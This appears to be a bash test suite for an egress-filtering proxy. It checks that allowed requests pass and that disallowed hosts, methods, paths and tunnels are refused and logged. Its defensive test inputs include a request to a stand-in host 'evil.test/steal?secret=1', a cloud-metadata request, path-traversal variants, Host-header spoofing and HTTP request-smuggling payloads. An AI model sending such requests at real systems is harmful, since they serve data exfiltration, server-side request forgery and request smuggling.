#!/usr/bin/env bash
# What passes the door and what does not, judged by what the receivers got.
GATEWAY_OPTIONS=(--allow allowed.test,,, --allow 'allowed.test,http,,' --allow 'other.test,,GET|POST,/public/**' --allow 'allowed.test:8443,,GET|POST|PUT,')
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

# Allowed: exactly what was asked, the server's answer as it came.
assert_passes https://allowed.test/path?query=1
assert_equal "$body" "hello from allowed"
receiver_got allowed '"sni": "allowed.test", "host": "allowed.test", "method": "GET", "target": "/path\?query=1"'
assert_passes http://allowed.test/plain
receiver_got allowed '"sni": null, "host": "allowed.test", "method": "GET", "target": "/plain"'
assert_passes -I https://allowed.test/head
assert_passes https://other.test/public/a%2Fb -d data-for-public
receiver_got other '"target": "/public/a%2Fb".*"body": "data-for-public"'
assert_passes -H 'Expect: 100-continue' https://allowed.test:8443/echo -d continue-data
receiver_got allowed '"host": "allowed.test:8443".*"body": "continue-data"'
assert_equal "$(curl -sS https://allowed.test/one https://allowed.test/two | wc -l)" 2

# Methods and paths.
receiver_forget allowed
receiver_forget other
assert_refused 403 'POST is not allowed' https://allowed.test/denied -d secret-in-body
assert_refused 403 'DELETE is not allowed' -X DELETE https://allowed.test/denied
assert_refused 403 '' https://other.test/private
assert_refused 400 'dot segment' --path-as-is https://other.test/public/../private
assert_refused 400 'dot segment' --path-as-is https://other.test/public/%2e%2e/private
assert_refused 400 'dot segment' --path-as-is https://other.test/public/..%2fprivate
assert_refused 400 'dot segment' --path-as-is 'https://other.test/public/..;/private'
assert_refused 403 '' -H 'X-HTTP-Method-Override: GET' -X PATCH https://allowed.test/denied
assert_refused 403 '' -I https://other.test/public/x
receiver_silent allowed '"event": "request"'
receiver_silent other '"event": "request"'

# Hosts and ports.
assert_refused 403 'evil.test is not in this jar' https://evil.test/steal?secret=1
assert_refused 403 'evil.test is not in this jar' http://evil.test/steal
assert_refused 403 '' https://allowed.test.evil.test/
assert_refused 403 '' -I https://evil.test/
assert_refused 403 '' https://evil.test:8443/
assert_refused 403 '' http://allowed.test:8080/
assert_refused 403 '' https://other.test:8443/
assert_refused 403 'is an address' -k https://93.184.216.10/
assert_refused 403 'is an address' http://93.184.216.10/
assert_refused 403 'is an address' --resolve allowed.test:443:93.184.216.12 https://allowed.test/
assert_refused 403 'is an address' http://169.254.169.254/latest/meta-data/
assert_refused 403 'is an address' http://10.7.0.5:8099/
receiver_silent evil
receiver_silent metadata
receiver_silent host-lan

# One name: of the connection, the handshake and the request.
assert_refused 421 'the request is for other.test' -H 'Host: other.test' https://allowed.test/
assert_refused 421 'the request is for evil.test' -H 'Host: evil.test' https://allowed.test/
assert_passes -H 'Host: ALLOWED.test.' https://allowed.test/spelling
receiver_got allowed '"host": "allowed.test", "method": "GET", "target": "/spelling"'
assert_refused 421 '' -H 'Host: allowed.test:8443' https://allowed.test/
address=$(getent ahostsv4 allowed.test | awk 'NR == 1 { print $1 }')
fetch --resolve "evil.test:443:$address" https://evil.test/
assert_equal "$status" 000
assert_refused 421 '' --request-target http://evil.test/ http://allowed.test/
assert_refused 421 '' --request-target https://allowed.test/ http://allowed.test/
assert_passes --request-target http://allowed.test/absolute http://allowed.test/
receiver_got allowed '"target": "/absolute"'
receiver_silent evil

# Proxies, tunnels, upgrades.
assert_contains "$(raw allowed.test 80 'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n')" 'HTTP/1.1 403'
fetch -x http://allowed.test:80 https://evil.test/
assert_equal "$status" 000
fetch -x http://10.7.0.9:3128 http://allowed.test/
assert_equal "$status" 403
fetch -x socks5h://allowed.test:80 https://evil.test/
assert_equal "$status" 000
assert_refused 403 '' -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://evil.test/ws
assert_passes --http2 http://allowed.test/h2c-is-not-offered
assert_refused 426 'WebSocket' -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Key: x' http://allowed.test/ws
receiver_forget allowed
assert_equal "$(raw allowed.test 22 'SSH-2.0-OpenSSH_9.2\r\n')" ''
assert_equal "$(raw evil.test 4444 'raw words\n')" ''
assert_equal "$(raw allowed.test 443 'raw words\n')" ''
receiver_silent allowed
receiver_silent allowed-raw
receiver_silent evil-raw

# Requests that two readers could understand differently.
ambiguous() { assert_matches "$(raw allowed.test 80 "$1")" '^HTTP/1.1 4[0-9][0-9] '; }
ambiguous 'GET / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n'
ambiguous 'GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n'
ambiguous 'GET / HTTP/1.1\r\n\r\n'
ambiguous 'GET / HTTP/1.1\r\nHost : allowed.test\r\n\r\n'
ambiguous 'GET / HTTP/1.1\r\nHost: allowed.test\r\nX: a\r\n b\r\n\r\n'
ambiguous 'GET / HTTP/1.1\nHost: allowed.test\n\n'
ambiguous 'GET /a b HTTP/1.1\r\nHost: allowed.test\r\n\r\n'
ambiguous 'GET / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd'
receiver_silent allowed '"event": "request"'

# A redirect is the client's next request, judged like any other.
receiver_forget evil
fetch -L 'https://allowed.test/redirect?to=https://evil.test/after-redirect'
assert_equal "$status" 403
receiver_silent evil

# Everything is in the ledger with its reason, and nothing of queries and bodies.
logged '^egress .*allow .*https .*allowed.test .*GET .*/path'
logged '^proxy .*deny .*https .*evil.test .*GET .*/steal .*evil.test is not in this jar'
logged '^proxy .*deny .*https .*allowed.test .*POST .*/denied'
logged '^proxy .*deny .*evil.test .*the TLS handshake asks for|^proxy .*deny .*allowed.test .*the TLS handshake asks for evil.test'
logged '^proxy .*deny .*93.184.216.10 '
logged '^proxy .*deny .*allowed.test .*neither TLS nor HTTP'
logged_not 'secret=1|secret-in-body|query=1|data-for-public'
